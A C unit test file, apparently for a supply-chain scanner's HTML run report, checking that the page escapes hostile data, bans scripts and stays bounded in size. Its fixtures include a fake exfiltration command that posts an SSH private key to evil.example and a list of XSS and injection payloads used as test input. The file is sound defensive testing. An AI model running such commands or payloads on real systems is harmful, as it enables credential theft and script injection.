/* The page of a run: that nothing in it came from the data but text. */
#include "run_scene.h"

#include <libxml/HTMLparser.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static htmlDocPtr
parse(const char *page)
{
    htmlDocPtr document = htmlReadMemory(page, (int)strlen(page), "page", "UTF-8",
                                         HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING | HTML_PARSE_NONET);
    assert_non_null(document);
    return document;
}

static bool
is_one_of(const xmlChar *name, const char *const *list, size_t count)
{
    for (size_t i = 0; i < count; i++)
        if (!strcmp((const char *)name, list[i]))
            return true;
    return false;
}

/* The elements and attributes that the page is made of. None loads, runs, links or carries style. */
static void
assert_only_ours(const xmlNode *node)
{
    static const char *const elements[] = {
        "html",    "head", "meta", "title",  "style",  "body",    "main",    "header", "div",   "h1",
        "h2",      "h3",   "p",    "dl",     "dt",     "dd",      "span",    "b",      "small", "strong",
        "ul",      "li",   "pre",  "code",   "svg",    "rect",    "path",    "text",   "table", "tr",
        "article", "th",   "td",   "circle", "footer", "details", "summary",
    };
    static const char *const attributes[] = { "lang",   "charset", "http-equiv", "content", "name",
                                              "class",  "open",    "x",          "y",       "width",
                                              "height", "rx",      "d",          "cx",      "cy",
                                              "r",      "viewbox", "viewBox",    "role",    "aria-label" };
    for (; node; node = node->next) {
        if (node->type == XML_ELEMENT_NODE) {
            if (!is_one_of(node->name, elements, SP_COUNT(elements)))
                fail_msg("an element of strangers: %s, line %ld", node->name, xmlGetLineNo(node));
            for (const xmlAttr *attribute = node->properties; attribute; attribute = attribute->next)
                if (!is_one_of(attribute->name, attributes, SP_COUNT(attributes)))
                    fail_msg("an attribute of strangers: %s of %s", attribute->name, node->name);
        } else if (node->type == XML_COMMENT_NODE || node->type == XML_PI_NODE) {
            fail_msg("a comment or instruction of strangers: %s", node->content);
        }
        assert_only_ours(node->children);
    }
}

static size_t
count_elements(const xmlNode *node)
{
    size_t count = 0;
    for (; node; node = node->next)
        count += (node->type == XML_ELEMENT_NODE) + count_elements(node->children);
    return count;
}

static size_t
assert_sound(const char *page)
{
    htmlDocPtr document = parse(page);
    assert_only_ours(xmlDocGetRootElement(document));
    size_t count = count_elements(xmlDocGetRootElement(document));
    xmlFreeDoc(document);
    assert_harmless(page);
    return count;
}

static void
a_page_says_what_happened(void **state)
{
    (void)state;
    static const char *const parts[] = {
        "<title>Sallyport: block</title>",
        "Do not install this",
        "2 to block, 2 to review",
        "run/canary-sent",
        "@corp/app &gt; left-thief",
        "3.42 s after the start",
        "allow run/decoy-read pkg:npm/left-thief@1.3.1",
        "curl -s -d @/home/u/.ssh/id_ed25519 https://evil.example/k",
        "203.0.113.9:443",
        "evil.example",
        "/tmp/.k",
        "the project's own scripts",
        "killed by signal 9",
        "ended with 1",
        "Stopped at the first proof",
    };
    struct run run;
    given_run(&run);
    given_scene(&run);
    const char *page = html_of(&run);
    for (size_t i = 0; i < SP_COUNT(parts); i++)
        if (!strstr(page, parts[i]))
            fail_msg("the page lacks %s", parts[i]);
    assert_sound(page);
    given_end(&run);
}

static void
the_page_forbids_itself_everything_but_its_own_look(void **state)
{
    (void)state;
    struct run run;
    given_run(&run);
    const char *page = html_of(&run);
    assert_holds(page, "content=\"default-src 'none'; style-src 'sha256-");
    assert_holds(page, "; base-uri 'none'; form-action 'none'\">");
    assert_lacks(page, "unsafe-inline");
    assert_lacks(page, "<script");
    assert_lacks(page, " style=");
    assert_lacks(page, "http://");
    assert_lacks(page, "href=");
    assert_lacks(page, "src=\"");
    given_end(&run);
}

static const char *const hostile_strings[] = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</title></text></svg><script>alert(1)</script>",
    "]]><svg onload=alert(1)>",
    "<!-- ",
    "--><b onclick=x>",
    "</style><script>alert(1)</script>",
    "javascript:alert(1)",
    "&lt;script&gt;&#60;b&#62;",
    "a\033[2J\033]0;owned\007b",
    "a\xe2\x80\xae"
    "b\xe2\x81\xa6",
    "\xff\xfe<b>",
    "\xf0\x9f\x98\x80 <\xe2\x80\x8b"
    "script>",
    "a\nb\r\tc",
    "<?php x ?>",
    "<![CDATA[<b>]]>",
    "",
    "{{7*7}}${x}%s%n",
};

struct sheet {
    struct sp_finding finding, allowed;
    struct sp_event events[10];
    struct sp_run_process processes[3];
    struct sp_run_package package;
    struct sp_run_load load;
    struct sp_run_change change;
    const char *command[3];
};

/* Every string of a report is HOSTILE. */
static void
fill_with(struct run *run, struct sheet *sheet, const char *hostile)
{
    static const enum sp_event_kind kinds[] = { SP_EVENT_PHASE,     SP_EVENT_CONNECTION, SP_EVENT_NAME,
                                                SP_EVENT_DECOY,     SP_EVENT_OPEN,       SP_EVENT_WRITE,
                                                SP_EVENT_EXEC,      SP_EVENT_SOCKET,     SP_EVENT_BYTES,
                                                SP_EVENT_CONNECTION };
    *sheet = (struct sheet){ 0 };
    sheet->finding = (struct sp_finding){ .rule = "run/connection",
                                          .severity = SP_SEVERITY_BLOCK,
                                          .ecosystem = "npm",
                                          .name = hostile,
                                          .version = hostile,
                                          .target = hostile,
                                          .place.file = hostile,
                                          .risk = -1,
                                          .message = hostile,
                                          .advice = hostile,
                                          .phase = hostile,
                                          .subject = hostile,
                                          .process = hostile,
                                          .process_number = 2,
                                          .time = 1500 * MS };
    sheet->allowed = sheet->finding;
    sheet->allowed.severity = SP_SEVERITY_NONE;
    sheet->allowed.was = SP_SEVERITY_REVIEW;
    sheet->allowed.allowed = hostile;
    for (size_t i = 0; i < SP_COUNT(kinds); i++)
        sheet->events[i] = (struct sp_event){ .kind = kinds[i],
                                              .time = (1100 + 10 * i) * MS,
                                              .subject = hostile,
                                              .detail = hostile,
                                              .package = i % 2 ? hostile : NULL,
                                              .directory = hostile,
                                              .port = 443,
                                              .bytes = 1 };
    for (uint32_t i = 0; i < 3; i++)
        sheet->processes[i] = (struct sp_run_process){ .number = i + 1,
                                                       .parent = i,
                                                       .package = i ? hostile : NULL,
                                                       .who = i ? "package" : hostile,
                                                       .program = hostile,
                                                       .words = i == 1 ? NULL : hostile,
                                                       .directory = hostile,
                                                       .began = (1100 + i) * MS,
                                                       .ended = 1900 * MS };
    sheet->package =
        (struct sp_run_package){ "npm", hostile, hostile, hostile, hostile, hostile, 1, 1, 1, 1 };
    sheet->load = (struct sp_run_load){ hostile, hostile, SP_LOAD_FAILED, hostile, 1 };
    sheet->change = (struct sp_run_change){ hostile, '!', 1, 1, hostile };
    sheet->command[0] = sheet->command[1] = hostile;
    given_finding(run, &sheet->finding);
    given_finding(run, &sheet->allowed);
    given_unseen(run, hostile);
    struct sp_run_report *report = &run->report;
    report->tool_version = report->project = report->manager = report->mode = report->watched =
        report->sight = report->stopped = report->policy = report->landing = hostile;
    report->command = sheet->command;
    report->events = sheet->events;
    report->event_count = SP_COUNT(sheet->events);
    report->processes = sheet->processes;
    report->process_count = SP_COUNT(sheet->processes);
    report->packages = &sheet->package;
    report->loads = &sheet->load;
    report->changes = &sheet->change;
    report->package_count = report->load_count = report->change_count = report->script_count = 1;
    report->started = 1000 * MS;
}

static void
no_element_or_attribute_comes_from_the_data(void **state)
{
    (void)state;
    for (size_t i = 0; i < SP_COUNT(hostile_strings); i++) {
        struct run run, plain;
        struct sheet sheet, plain_sheet;
        given_run(&run);
        given_run(&plain);
        fill_with(&run, &sheet, hostile_strings[i]);
        fill_with(&plain, &plain_sheet, *hostile_strings[i] ? "plain" : "");
        size_t count = assert_sound(html_of(&run));
        size_t wanted = assert_sound(html_of(&plain));
        /* a name that no package may have gets no policy line: three elements fewer for each */
        if (count > wanted)
            fail_msg("%s: %zu elements, not %zu", hostile_strings[i], count, wanted);
        assert_lacks(run.out.bytes, "<script");
        assert_lacks(run.out.bytes, "<img");
        given_end(&run);
        given_end(&plain);
    }
}

static void
a_run_of_many_thousand_processes_is_a_page_of_bounded_size(void **state)
{
    (void)state;
    static struct sp_run_process processes[30000];
    static char names[30000][40], words[4096];
    struct run run;
    memset(words, '<', sizeof(words) - 1);
    given_run(&run);
    given_scene(&run);
    for (uint32_t i = 0; i < SP_COUNT(processes); i++) {
        snprintf(names[i], sizeof(names[i]), "pkg:npm/p%u@1.0.0", i % 3000);
        processes[i] =
            (struct sp_run_process){ .number = i + 1,
                                     /* wide, then a chain, and some that claim to be their own parents */
                                     .parent = i < 10000   ? 1
                                               : i < 20000 ? i
                                                           : i + 1,
                                     .package = names[i],
                                     .words = words,
                                     .began = 1000 * MS + i,
                                     .ended = 2000 * MS };
    }
    run.report.processes = processes;
    run.report.process_count = SP_COUNT(processes);
    const char *page = html_of(&run);
    if (strlen(page) > (size_t)8 << 20)
        fail_msg("%zu bytes", strlen(page));
    assert_holds(page, "30,000");
    assert_holds(page, " more</div>");
    assert_sound(page);
    given_end(&run);
}

static void
the_page_says_what_the_model_said(void **state)
{
    (void)state;
    struct run run;
    given_run(&run);
    run.report.model = &given_model;
    run.report.risks = given_risks;
    run.report.risk_count = SP_COUNT(given_risks);
    const char *page = html_of(&run);
    assert_holds(page, "Risk by the behaviour model");
    assert_holds(page, "model 000000001234abcd");
    assert_holds(page, "touched 2 planted secrets while installing");
    assert_lacks(page, "pkg:npm/<b>");
    assert_holds(page, "pkg:npm/&lt;b&gt;");
    given_end(&run);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_page_says_what_the_model_said),
        cmocka_unit_test(a_page_says_what_happened),
        cmocka_unit_test(the_page_forbids_itself_everything_but_its_own_look),
        cmocka_unit_test(no_element_or_attribute_comes_from_the_data),
        cmocka_unit_test(a_run_of_many_thousand_processes_is_a_page_of_bounded_size),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
